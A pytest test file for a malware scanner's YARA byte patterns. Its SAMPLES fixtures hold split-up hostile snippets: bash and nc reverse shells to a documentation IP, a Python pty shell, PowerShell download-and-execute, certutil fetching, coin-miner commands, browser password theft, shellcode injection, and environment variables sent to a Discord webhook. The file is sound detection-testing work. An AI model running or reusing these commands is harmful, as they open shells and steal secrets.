"""Byte patterns in YARA, each with its twin in YAML."""

import re
from pathlib import Path

import pytest

from scanner.formats import yara as subject
from scanner.limits import Limits
from tests.builders.judged import judged
from tests.builders.reading import of, read_as

FORMAT = subject.FORMAT
RULES = Path(__file__).parents[2] / "rules"
SLASH = chr(47)
SHELL = SLASH.join(["", "bin", "sh"])

SMALLEST = b"#!/bin/sh\n./run -o " + b"stratum" + b"+tcp://pool.example.com:3333\n"

# Every text is put together here, so that no scanner takes this file for what it describes. None of them is run.
SAMPLES = {
    "bytes-open-reverse-shell": [
        ("x.sh", f"bash -i >& {SLASH}dev{SLASH}" + "tcp/192.0.2.1/9 0>&1\n"),
        ("x.sh", "nc 192.0.2.1 9 " + f"-e {SHELL}\n"),
        ("x.py", "import os, pty\n" + "os." + "dup2(s.fileno(), 0)\npty." + "spawn('sh')\n"),
        ("x.ps1", "$c = New-Object " + "Net.Sockets." + "TCPClient('192.0.2.1', 9); i" + "ex $x\n"),
    ],
    "bytes-mine-coins": [
        ("x.sh", "./run -o " + "stratum" + "+tcp://pool.example.com:3333\n"),
        ("x.py", "import os\nx = 'xm" + "rig --donate" + "-level=1'\n"),
    ],
    "bytes-fetch-with-system-tool": [
        ("x.bat", "cert" + "util -f -url" + "cache http://example.com/a b\n"),
        ("x.ps1", "i" + "ex (New-Object Net.WebClient).Download" + "String('http://example.com')\n"),
    ],
    "bytes-take-browser-passwords": [
        ("x.py", "import os\np = r'\\Local" + " State'\nk = 'encrypted" + "_key'\nd = r'\\Login" + " Data'\n"),
    ],
    "bytes-run-shellcode": [
        (
            "x.py",
            "import ctypes\nk = ctypes.win" + "dll.kernel32\nk.Virtual" + "Alloc()\n"
            "k.RtlMove" + "Memory()\nk.Create" + "Thread()\n",
        ),
    ],
    "bytes-send-to-webhook": [
        (
            "x.py",
            "import os, requests\n"
            "requests.post('https://discord" + ".com/api/web" + "hooks/123456789', data=os.environ)\n",
        ),
    ],
    "bytes-are-packed": [
        ("x.so", b"\x7fELF\x02\x01" + bytes(58) + b"UPX" + b"!" + bytes(9) + b"UPX" + b"0" + b"UPX" + b"1"),
    ],
}  # fmt: skip


def _bytes(content):
    return content if isinstance(content, bytes) else content.encode()


@pytest.mark.parametrize("rule", SAMPLES)
def test_a_pattern_is_found_in_its_kind_of_file_and_judged(rule):
    for path, content in SAMPLES[rule]:
        told = judged(_bytes(content), path)
        # What a command of a script does is told with its line, and not twice.
        assert (rule in told) is not any(one.startswith("command-") for one in told), path
        (fact, *_) = of(read_as(FORMAT, _bytes(content), path, Limits())[0], "BytePattern")
        assert fact.pattern == rule
        assert fact.count > 0
        assert fact.where.length


@pytest.mark.parametrize("rule", SAMPLES)
@pytest.mark.parametrize("path", ["tokenizer.json", "README.md", "vocab.txt", "data.csv"])
def test_vocabularies_tables_and_documentation_are_not_looked_at(rule, path):
    for _, content in SAMPLES[rule]:
        if isinstance(content, str):
            assert not FORMAT.claims(b"{" + content.encode() if path.endswith(".json") else content.encode(), path)


def test_every_pattern_has_a_twin_and_kinds_that_exist():
    patterns = sorted((RULES / "known").glob("*.yar"))
    assert {one.stem for one in patterns} == {one.stem for one in (RULES / "bytes").glob("*.yaml")} == set(SAMPLES)
    for one in patterns:
        text = one.read_text(encoding="utf-8")
        kinds = re.search(r'kinds = "([^"]+)"', text)
        assert kinds, one
        assert set(kinds[1].split()) <= subject.KINDS
        assert f"rule {one.stem.replace('-', '_')} {{" in text


def test_one_string_alone_is_not_the_pattern():
    assert "bytes-open-reverse-shell" not in judged(b"import os\nos." + b"dup2(s.fileno(), 0)\n", "x.py")
    assert "bytes-send-to-webhook" not in judged(
        b"import os\nx = 'https://hooks." + b"slack.com/services/TABCDEF12'\n", "x.py"
    )


def test_our_own_source_sets_off_nothing():
    for file in sorted((Path(__file__).parents[2] / "scanner").rglob("*.py"))[::5]:
        if file.name == "names.py":  # the table of what code of shells is written with
            continue
        assert read_as(FORMAT, file.read_bytes(), str(file), Limits())[0] == []


def test_without_the_library_nothing_is_claimed(monkeypatch):
    monkeypatch.setattr(subject, "_installed", lambda: False)
    assert not FORMAT.claims(b"#!/bin/sh\n", "x.sh")


@pytest.mark.parametrize(
    ("head", "path", "kind"),
    [
        (b"#!/bin/sh\n", "x", "script"),
        (b"import os\n", "x", "python"),
        (b"import os\n", "x.md", ""),
        (b"echo hi\r\n", "x.BAT", "script"),
        (b"\x7fELF", "x", "elf"),
        (b"PK\x03\x04", "x", ""),
        (b"cposix\nsystem\n", "x", "pickle"),
    ],
)
def test_the_kind_is_told_by_the_first_bytes_and_of_text_by_its_name(head, path, kind):
    assert subject.sort_of(head, path) == kind


def test_a_scan_that_takes_too_long_is_said(monkeypatch):
    import yara_x

    from scanner.formats.yara import matching

    class Slow:
        def scan(self, _content):
            raise yara_x.TimeoutError

    monkeypatch.setattr(matching, "_scanner", Slow)
    (fact,) = read_as(FORMAT, b"import os\n", "x.py", Limits())[0]
    assert (fact.limit, fact.unit) == ("patterns", "seconds")
